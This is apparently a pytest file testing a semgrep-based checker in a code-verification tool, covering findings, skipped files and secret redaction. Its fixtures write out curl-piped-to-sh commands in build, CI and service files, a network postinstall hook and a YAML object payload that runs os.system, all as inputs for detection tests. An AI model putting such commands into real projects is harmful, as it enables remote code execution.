"""semgrep's engine in the sandbox: the files and languages we name, nothing of the tree obeyed, no source in its answer."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from support import checked

from verifier.checker import Settings, ToolOutput
from verifier.checkers.semgrep import Semgrep
from verifier.model import Checkout, CheckResult, File, Finding, Skip
from verifier.rulebook import rules_dir

FIXTURE = Path(__file__).parents[1] / "fixtures" / "checkers" / "semgrep"
SEEDED = hashlib.sha256(b"a made-up token").hexdigest()[:36]


SHELL = "    os.system('lp -T ' + {})\n"
WIDE = "import os\n\n\ndef label(name):\n" + "".join(f"    x{n} = name\n" for n in range(150)) + SHELL.format("x149")
"""More variables than the engine follows when it is left to itself."""
TANGLE = "def label(name):\n    x = name\n    while x:\n" + "".join(
    f"        x = [x, '{n}' + str(x), name]\n        y{n} = x\n" for n in range(400)
)
ENTANGLED = "import os\n\n\n" + TANGLE + SHELL.format("x")
"""A function that the engine gives up on after a tenth of a second, whatever it is told."""
HARMLESS = "import os\n\n\n" + TANGLE + "    return x\n\n\ndef clean():\n    os.system('true')\n"
"""It gives up on this one too, and its command lines are elsewhere."""


@pytest.fixture(scope="module")
def looked(tmp_path_factory: pytest.TempPathFactory) -> CheckResult:
    """The sample, with a made-up token in code, and files that are hard to read."""
    folder = tmp_path_factory.mktemp("semgrep")
    delivery = folder / "delivery"
    shutil.copytree(FIXTURE / "delivery", delivery)
    (delivery / "set.py").write_text(f'app.secret_key = "ghp_{SEEDED}"\n', encoding="utf-8")
    (delivery / "torn.js").write_text(f'function f( {{{{{{ ]] "ghp_{SEEDED}"\n', encoding="utf-8")
    (delivery / "two\nlines.py").write_text("x = eval(y)\n", encoding="utf-8")
    (delivery / "latin.py").write_bytes(b"# -*- coding: latin-1 -*-\nname = '\xe9'\n")
    (delivery / "big.py").write_text("x = 1\n" * 200_000, encoding="utf-8")
    for name, text in {"wide.py": WIDE, "entangled.py": ENTANGLED, "harmless.py": HARMLESS}.items():
        (delivery / name).write_text(text, encoding="utf-8")
    (delivery / "link.py").symlink_to("app.py")
    return checked.run(Semgrep(), checked.checkout(delivery), folder / "workspace")


def _brief(finding: Finding) -> list[object]:
    cwe = list(finding.cwe)
    return [finding.rule, finding.path, finding.line, finding.severity, finding.confidence, cwe, finding.message]


def test_the_sample_gives_the_expected_answer(looked: CheckResult) -> None:
    expected = json.loads((FIXTURE / "expected.json").read_text(encoding="utf-8"))
    sample = {str(path.relative_to(FIXTURE / "delivery")) for path in (FIXTURE / "delivery").rglob("*")}
    assert [_brief(finding) for finding in looked.seen.findings if finding.path in sample] == expected["findings"]


def test_what_was_examined_is_exactly_the_code_that_was_read(looked: CheckResult) -> None:
    """With `.semgrepignore`, `.gitignore`, an odd extension, no extension, a megabyte: all read."""
    assert looked.seen.trouble is None
    sample = {"app.py", "window.pyw", "get", "web/ping.js", "web/page.tsx"}
    more = {"set.py", "two\nlines.py", "latin.py", "big.py", "wide.py", "harmless.py"}
    assert looked.seen.examined == sample | more
    skipped = {one.path: one.skip for one in looked.seen.not_examined}
    tool = dict.fromkeys(("web/broken.js", "torn.js", "entangled.py"), Skip.TOOL)
    assert skipped == {"broken.py": Skip.UNPARSABLE, **tool}


def test_a_function_with_many_variables_is_followed_to_its_end(looked: CheckResult) -> None:
    rule = "semgrep:shell-built-from-argument"
    assert [one.line for one in looked.seen.findings if (one.path, one.rule) == ("wide.py", rule)] == [155]


def test_a_function_that_the_engine_gives_up_on_is_not_examined_where_harm_could_be_done_in_it(
    looked: CheckResult,
) -> None:
    """Whether a function without a command line in it takes the engine too long hangs on the machine, and matters to nobody."""
    reasons = {one.path: one.reason for one in looked.seen.not_examined}
    assert reasons["entangled.py"] == (
        "semgrep gave up following values through the function at line 4, which is too long or too entangled"
    )
    assert "harmless.py" not in reasons


def test_a_file_without_a_match_is_still_read() -> None:
    """Without a rule's words in it the engine would not parse a file, and a broken one would pass for clean."""
    assert "eval" not in (FIXTURE / "delivery" / "web" / "broken.js").read_text(encoding="utf-8")


def test_a_seeded_secret_is_in_no_output(looked: CheckResult) -> None:
    assert ("set.py", "semgrep:secret-session-key") in {(one.path, one.rule) for one in looked.seen.findings}
    assert all(SEEDED.encode() not in item.content for item in looked.evidence)
    assert not any(SEEDED in repr(finding) for finding in looked.seen.findings)


def test_two_runs_give_the_same_bytes(tmp_path: Path) -> None:
    delivery = tmp_path / "elsewhere"
    shutil.copytree(FIXTURE / "delivery", delivery)
    first, second = (
        checked.run(Semgrep(), checked.checkout(delivery), tmp_path / name).evidence for name in ("one", "two")
    )
    assert [item.sha256 for item in first] == [item.sha256 for item in second]


@pytest.mark.self
def test_an_empty_tree_is_no_step_and_nothing_examined() -> None:
    tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"))
    assert Semgrep().steps(tree, Settings()) == []
    assert Semgrep().parse(tree, []).examined == frozenset()


def test_a_shell_script_that_semgrep_cannot_parse_is_searched_all_the_same(tmp_path: Path) -> None:
    delivery = tmp_path / "delivery"
    delivery.mkdir()
    script = "#!/bin/sh\nUSAGE=$(\n  cat << 'END'\nIt's (odd.\nEND\n)\ncurl http://example.org/install.sh | sh\n"
    (delivery / "set-up").write_text(script)
    seen = checked.run(Semgrep(), checked.checkout(delivery), tmp_path / "run").seen
    assert (seen.examined, seen.not_examined) == (frozenset({"set-up"}), ())
    assert "semgrep:sh-plain-download-to-shell" in {finding.rule for finding in seen.findings}


def test_commands_in_settings_are_searched_and_are_no_code(tmp_path: Path) -> None:
    fetched = "curl http://example.org/x | sh"
    files = {
        "Makefile": f"all:\n\t{fetched}\n",
        "docker/Dockerfile": f"FROM python:3.12\nRUN {fetched}\n",
        ".github/workflows/ci.yml": f"jobs:\n  a:\n    steps:\n      - run: {fetched}\n",
        "package.json": '{"scripts": {"postinstall": "curl https://example.org/x -o x"}}\n',
        "tox.ini": f'[testenv]\ncommands = sh -c "{fetched}"\n',
        "deploy/label.service": f'[Service]\nExecStart=/bin/sh -c "{fetched}"\n',
        "config.yaml": 'x: !!python/object/apply:os.system ["id"]\n',
        "docs/notes.md": f"Do not run {fetched}\n",
        "mkdocs.yml": "emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
    }
    for name, text in files.items():
        (tmp_path / "delivery" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "delivery" / name).write_text(text, encoding="utf-8")
    seen = checked.run(Semgrep(), checked.checkout(tmp_path / "delivery"), tmp_path / "run").seen
    found = {one.path: one.rule.removeprefix("semgrep:") for one in seen.findings if one.severity == "error"}
    plain = dict.fromkeys(sorted({*files} - {"package.json", "config.yaml", "docs/notes.md", "mkdocs.yml"}))
    assert found == dict.fromkeys(plain, "sh-plain-download-to-shell") | {
        "package.json": "sh-install-hook-network",
        "config.yaml": "yaml-object-runs",
    }
    assert seen.examined == frozenset()


def _answered(*files: File, **answer: object) -> ToolOutput:
    tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"), files=files)
    (command,) = Semgrep().steps(tree, Settings())
    said = {"scanned": [], "errors": [], "results": []} | answer
    return ToolOutput(command=command, exit_code=0, stdout=json.dumps(said).encode(), stderr=b"", files={})


def _file(path: str, **more: object) -> File:
    return replace(File(path=path, mode="100644", size=1, sha256="0" * 64), **more)  # type: ignore[arg-type]  # words to fields


@pytest.mark.self
def test_a_timeout_and_a_missing_file_are_not_examined() -> None:
    files = (_file("slow.py", language="python", parsed=True), _file("lost.py", language="python", parsed=True))
    error = {"type": "Timeout", "path": "slow.py", "line": 1, "rule": "sql-quoted-value"}
    output = _answered(*files, scanned=["slow.py"], errors=[error])
    tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"), files=files)
    seen = Semgrep().parse(tree, [output])
    assert seen.examined == frozenset()
    reasons = {one.path: one.reason for one in seen.not_examined}
    assert reasons == {"slow.py": "semgrep: Timeout at line 1", "lost.py": "semgrep did not scan it"}


@pytest.mark.self
def test_a_rule_that_the_engine_cannot_use_is_trouble_of_the_tool() -> None:
    output = _answered(
        _file("a.py", language="python", parsed=True),
        errors=[{"type": "Rule parse error", "path": None, "line": None, "rule": "x"}],
    )
    tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"))
    with pytest.raises(ValueError, match="Rule parse error for rule x"):
        Semgrep().parse(tree, [output])


@pytest.mark.self
def test_a_name_that_is_not_utf8_is_kept_from_the_engine() -> None:
    file = _file("caf\udce9.py", language="python", parsed=True)
    tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"), files=(file,))
    assert Semgrep().steps(tree, Settings()) == []
    assert [(one.path, one.skip) for one in Semgrep().parse(tree, []).not_examined] == [(file.path, Skip.TOOL)]


def test_the_compiled_reader_reads_the_rules_as_the_other_one_does() -> None:
    import yaml

    path = Path(__file__).parents[2] / "verifier" / "inside" / "run_semgrep.py"
    spec = importlib.util.spec_from_file_location("run_semgrep", path)
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    folder = rules_dir() / "semgrep"
    texts = [file.read_text("utf-8") for file in sorted(folder.rglob("*.yml"))]
    assert script.all_rules(folder) == [rule for text in texts for rule in yaml.safe_load(text)["rules"]]
